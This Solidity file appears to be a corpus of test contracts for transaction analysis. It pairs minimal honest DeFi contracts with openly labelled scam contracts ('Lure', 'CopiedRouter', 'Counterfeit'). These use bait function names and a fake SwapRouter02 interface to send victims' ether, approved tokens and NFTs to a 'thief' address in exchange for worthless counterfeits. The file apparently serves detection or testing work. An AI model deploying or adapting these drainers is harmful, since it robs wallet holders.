// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC1363} from "@openzeppelin/contracts/token/ERC20/extensions/ERC1363.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";
import {ERC20Votes} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Votes.sol";
import {ERC4626} from "@openzeppelin/contracts/token/ERC20/extensions/ERC4626.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";
import {ERC1155} from "@openzeppelin/contracts/token/ERC1155/ERC1155.sol";
import {MerkleProof} from "@openzeppelin/contracts/utils/cryptography/MerkleProof.sol";
import {Nonces} from "@openzeppelin/contracts/utils/Nonces.sol";

// Contracts of the corpus. The honest ones are as small as the real ones allow; the others do what write-ups of real thefts describe.

contract Vault is ERC4626 {
    constructor(IERC20 asset_) ERC4626(asset_) ERC20("Orchard Vault", "ovUSDC") {}
}

contract Staking {
    using SafeERC20 for IERC20;

    IERC20 public immutable staked;
    IERC20 public immutable reward;
    mapping(address => uint256) public balanceOf;

    constructor(IERC20 staked_, IERC20 reward_) {
        (staked, reward) = (staked_, reward_);
    }

    function stake(uint256 amount) public {
        balanceOf[msg.sender] += amount;
        staked.safeTransferFrom(msg.sender, address(this), amount);
    }

    function withdraw(uint256 amount) public {
        balanceOf[msg.sender] -= amount;
        staked.safeTransfer(msg.sender, amount);
    }

    function getReward() public {
        reward.safeTransfer(msg.sender, 3e18);
    }

    function exit() external {
        withdraw(balanceOf[msg.sender]);
        getReward();
    }
}

contract LiquidStaking is ERC20("Staked Ether of the orchard", "oETH") {
    function submit(address) external payable returns (uint256) {
        _mint(msg.sender, msg.value);
        return msg.value;
    }
}

contract Distributor {
    IERC20 public immutable token;
    bytes32 public immutable root;
    mapping(uint256 => bool) public isClaimed;

    constructor(IERC20 token_, bytes32 root_) {
        (token, root) = (token_, root_);
    }

    function claim(uint256 index, address account, uint256 amount, bytes32[] calldata proof) external {
        require(!isClaimed[index], "claimed");
        require(MerkleProof.verify(proof, root, keccak256(abi.encodePacked(index, account, amount))), "proof");
        isClaimed[index] = true;
        token.transfer(account, amount);
    }
}

contract Bridge {
    event ETHDepositInitiated(address indexed from, address indexed to, uint256 amount, bytes extraData);
    event ERC20DepositInitiated(address indexed l1Token, address indexed l2Token, address indexed from, address to, uint256 amount);

    function depositETH(uint32, bytes calldata extraData) external payable {
        emit ETHDepositInitiated(msg.sender, msg.sender, msg.value, extraData);
    }

    function depositETHTo(address to, uint32, bytes calldata extraData) external payable {
        emit ETHDepositInitiated(msg.sender, to, msg.value, extraData);
    }

    function depositERC20(address l1Token, address l2Token, uint256 amount, uint32, bytes calldata) external {
        IERC20(l1Token).transferFrom(msg.sender, address(this), amount);
        emit ERC20DepositInitiated(l1Token, l2Token, msg.sender, msg.sender, amount);
    }
}

contract Drop is ERC721("Winter Apples", "APPLE") {
    uint256 public totalSupply;

    function mint(uint256 quantity) external payable {
        require(msg.value == quantity * 0.01 ether, "price");
        for (uint256 i = 0; i < quantity; i++) _mint(msg.sender, ++totalSupply);
    }

    function freeMint() external {
        _mint(msg.sender, ++totalSupply);
    }
}

contract Market {
    mapping(address => mapping(uint256 => uint256)) public prices;

    function list(address collection, uint256 id, uint256 price) external {
        prices[collection][id] = price;
    }

    function buy(address collection, uint256 id) external payable {
        require(msg.value == prices[collection][id], "price");
        address seller = IERC721(collection).ownerOf(id);
        IERC721(collection).transferFrom(seller, msg.sender, id);
        (bool isPaid,) = seller.call{value: msg.value}("");
        require(isPaid);
    }

    function cancel(address collection, uint256 id) external {
        delete prices[collection][id];
    }

    function incrementCounter() external returns (uint256) {
        return 1;
    }
}

contract Council {
    event VoteCast(address indexed voter, uint256 proposalId, uint8 support, uint256 weight, string reason);

    function castVote(uint256 proposalId, uint8 support) external returns (uint256) {
        emit VoteCast(msg.sender, proposalId, support, 1, "");
        return 1;
    }

    function castVoteWithReason(uint256 proposalId, uint8 support, string calldata reason) external returns (uint256) {
        emit VoteCast(msg.sender, proposalId, support, 1, reason);
        return 1;
    }
}

contract VotesToken is ERC20Votes, ERC20Permit {
    constructor() ERC20("Orchard Votes", "ORCH") ERC20Permit("Orchard Votes") {
        _mint(msg.sender, 1e24);
    }

    function nonces(address owner) public view override(ERC20Permit, Nonces) returns (uint256) {
        return super.nonces(owner);
    }

    function _update(address from, address to, uint256 value) internal override(ERC20, ERC20Votes) {
        super._update(from, to, value);
    }
}

/// A token with the further doors that tokens have or had: increaseAllowance, ERC-777, ERC-677, ERC-1363, permit of DAI.
contract ManyDoors is ERC1363 {
    mapping(address => mapping(address => bool)) public isOperatorFor;

    event AuthorizedOperator(address indexed operator, address indexed holder);

    constructor() ERC20("Many Doors", "DOOR") {
        _mint(msg.sender, 1e24);
    }

    function increaseAllowance(address spender, uint256 added) external returns (bool) {
        _approve(msg.sender, spender, allowance(msg.sender, spender) + added);
        return true;
    }

    function decreaseAllowance(address spender, uint256 removed) external returns (bool) {
        _approve(msg.sender, spender, allowance(msg.sender, spender) - removed);
        return true;
    }

    function authorizeOperator(address operator) external {
        isOperatorFor[operator][msg.sender] = true;
        emit AuthorizedOperator(operator, msg.sender);
    }

    function revokeOperator(address operator) external {
        isOperatorFor[operator][msg.sender] = false;
    }

    function send(address to, uint256 amount, bytes calldata) external {
        _transfer(msg.sender, to, amount);
    }

    function transferAndCall(address to, uint256 amount, bytes memory) public override returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function approveAndCall(address spender, uint256 amount, bytes memory) public override returns (bool) {
        _approve(msg.sender, spender, amount);
        return true;
    }
}

/// The money of somebody, under their control.
contract Treasury is Ownable, AccessControl {
    address public pendingOwner;
    address public implementation;
    address public minter;

    constructor() payable Ownable(msg.sender) {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
    }

    receive() external payable {}

    function upgradeTo(address next) external onlyOwner {
        implementation = next;
    }

    function upgradeToAndCall(address next, bytes calldata) external payable onlyOwner {
        implementation = next;
    }

    function changeAdmin(address next) external onlyOwner {
        _transferOwnership(next);
    }

    function setOwner(address next) external onlyOwner {
        _transferOwnership(next);
    }

    function setMinter(address next) external onlyOwner {
        minter = next;
    }

    function propose(address next) external onlyOwner {
        pendingOwner = next;
    }

    function withdraw(address payable to, uint256 amount) external onlyOwner {
        to.transfer(amount);
    }
}

/// A shared wallet with the functions of Safe, of one owner.
contract SharedWallet {
    mapping(address => bool) public isOwner;
    mapping(address => bool) public isModuleEnabled;
    uint256 public threshold = 1;
    address public guard;

    event ApproveHash(bytes32 indexed hash, address indexed owner);
    event EnabledModule(address indexed module);
    event AddedOwner(address indexed owner);
    event RemovedOwner(address indexed owner);

    constructor() payable {
        isOwner[msg.sender] = true;
    }

    receive() external payable {}

    modifier onlySelf() {
        require(msg.sender == address(this), "GS031");
        _;
    }

    function execTransaction(
        address to,
        uint256 value,
        bytes calldata data,
        uint8 operation,
        uint256,
        uint256,
        uint256,
        address,
        address payable,
        bytes memory
    ) external payable returns (bool isDone) {
        require(isOwner[msg.sender], "GS030");
        (isDone,) = operation == 1 ? to.delegatecall(data) : to.call{value: value}(data);
        require(isDone, "GS013");
    }

    function approveHash(bytes32 hash) external {
        emit ApproveHash(hash, msg.sender);
    }

    function addOwnerWithThreshold(address owner, uint256 threshold_) external onlySelf {
        isOwner[owner] = true;
        threshold = threshold_;
        emit AddedOwner(owner);
    }

    function swapOwner(address, address oldOwner, address newOwner) external onlySelf {
        isOwner[oldOwner] = false;
        isOwner[newOwner] = true;
        emit RemovedOwner(oldOwner);
        emit AddedOwner(newOwner);
    }

    function enableModule(address module) external onlySelf {
        isModuleEnabled[module] = true;
        emit EnabledModule(module);
    }

    function setGuard(address guard_) external onlySelf {
        guard = guard_;
    }
}

/// Lends as Aave and Compound do, as far as rights and receivers go.
contract Lending is ERC20("Lent USDC", "lUSDC") {
    IERC20 public immutable asset;
    mapping(address => mapping(address => uint256)) public borrowAllowance;
    mapping(address => mapping(address => bool)) public isAllowed;

    event BorrowAllowanceDelegated(address indexed fromUser, address indexed toUser, address indexed asset, uint256 amount);

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function supply(address, uint256 amount, address onBehalfOf, uint16) external {
        asset.transferFrom(msg.sender, address(this), amount);
        _mint(onBehalfOf, amount);
    }

    function withdraw(address, uint256 amount, address to) external returns (uint256) {
        uint256 held = balanceOf(msg.sender);
        uint256 taken = amount > held ? held : amount;
        _burn(msg.sender, taken);
        asset.transfer(to, taken);
        return taken;
    }

    function borrow(address, uint256 amount, uint256, uint16, address) external {
        asset.transfer(msg.sender, amount);
    }

    function approveDelegation(address delegatee, uint256 amount) external {
        borrowAllowance[msg.sender][delegatee] = amount;
        emit BorrowAllowanceDelegated(msg.sender, delegatee, address(asset), amount);
    }

    function allow(address manager, bool isAllowed_) external {
        isAllowed[msg.sender][manager] = isAllowed_;
    }

    function setAuthorization(address authorized, bool isAuthorized) external {
        isAllowed[msg.sender][authorized] = isAuthorized;
    }
}

/// Anybody mints it, under any name.
contract Counterfeit is ERC20 {
    uint8 private immutable _places;

    constructor(string memory name_, string memory symbol_, uint8 places_) ERC20(name_, symbol_) {
        _places = places_;
    }

    function decimals() public view override returns (uint8) {
        return _places;
    }

    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }
}

contract CounterfeitItems is ERC721("Winter Apples", "APPLE") {
    uint256 private _last;

    function mint(address to) external {
        _mint(to, ++_last);
    }
}

/// The functions that thieves deploy. All that is taken goes to `thief`.
contract Lure {
    address payable public immutable thief;
    Counterfeit public immutable fake;
    CounterfeitItems public immutable fakeItems;

    constructor(address payable thief_, Counterfeit fake_, CounterfeitItems fakeItems_) {
        (thief, fake, fakeItems) = (thief_, fake_, fakeItems_);
    }

    modifier takes() {
        thief.transfer(msg.value);
        _;
    }

    function SecurityUpdate() external payable takes {}
    function claim() external payable takes {}
    function Claim(address) external payable takes {}
    function claimReward(address) external payable takes {}
    function airdrop(bytes32[] calldata) external payable takes {}
    function verifyWallet() external payable takes {}
    function register(string calldata) external payable takes {}
    function join(uint256, address) external payable takes {}
    function execute(bytes calldata) external payable takes {}
    function deposit() external payable takes {}
    function stake(uint256) external payable takes {}
    function mint(uint256) external payable takes {}

    receive() external payable {
        thief.transfer(msg.value);
    }

    /// Keeps what comes until the owner collects it: nothing moves on at once.
    function contribute() external payable {}

    function sweep() external {
        thief.transfer(address(this).balance);
    }

    /// A mint that gives a worthless copy.
    function mintApples(uint256) external payable takes {
        fakeItems.mint(msg.sender);
    }

    /// A swap that pays in a token that anybody mints.
    function swap(IERC20 sold, uint256 amount) external payable {
        if (msg.value > 0) thief.transfer(msg.value);
        else sold.transferFrom(msg.sender, thief, amount);
        fake.mint(msg.sender, 3_000_000_000);
    }

    /// Takes everything of a token that it was once allowed to, and gives a fake one.
    function migrate(IERC20 token) external {
        token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
        fake.mint(msg.sender, 10_000_000_000);
    }

    function upgradeWallet(IERC20[] calldata tokens) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            tokens[i].transferFrom(msg.sender, thief, tokens[i].balanceOf(msg.sender));
        }
    }

    /// Takes collectibles by a right of before.
    function refresh(IERC721 collection, uint256[] calldata ids) external {
        for (uint256 i = 0; i < ids.length; i++) collection.transferFrom(msg.sender, thief, ids[i]);
    }

    /// Takes a large part, and gives one cent back.
    function harvest(IERC20 token, IERC20 cent, uint256 amount) external {
        token.transferFrom(msg.sender, thief, amount);
        cent.transfer(msg.sender, 10_000);
    }
}

/// The shape of SwapRouter02, with another end.
contract CopiedRouter {
    address payable public immutable thief;
    Counterfeit public immutable fake;

    struct Single {
        address tokenIn;
        address tokenOut;
        uint24 fee;
        address recipient;
        uint256 amountIn;
        uint256 amountOutMinimum;
        uint160 sqrtPriceLimitX96;
    }

    constructor(address payable thief_, Counterfeit fake_) {
        (thief, fake) = (thief_, fake_);
    }

    function exactInputSingle(Single calldata order) external payable returns (uint256) {
        if (msg.value > 0) thief.transfer(msg.value);
        else IERC20(order.tokenIn).transferFrom(msg.sender, thief, order.amountIn);
        fake.mint(order.recipient, order.amountOutMinimum);
        return order.amountOutMinimum;
    }

    function multicall(uint256, bytes[] calldata data) external payable {
        for (uint256 i = 0; i < data.length; i++) {
            (bool isDone,) = address(this).delegatecall(data[i]);
            require(isDone);
        }
    }
}

/// Stands for an honest contract of a real address, whose requests are signed and not run here.
contract Standing {
    fallback() external payable {}
    receive() external payable {}
}

contract Tickets is ERC1155("") {
    function mint(address to, uint256 id, uint256 amount) external {
        _mint(to, id, amount, "");
    }
}
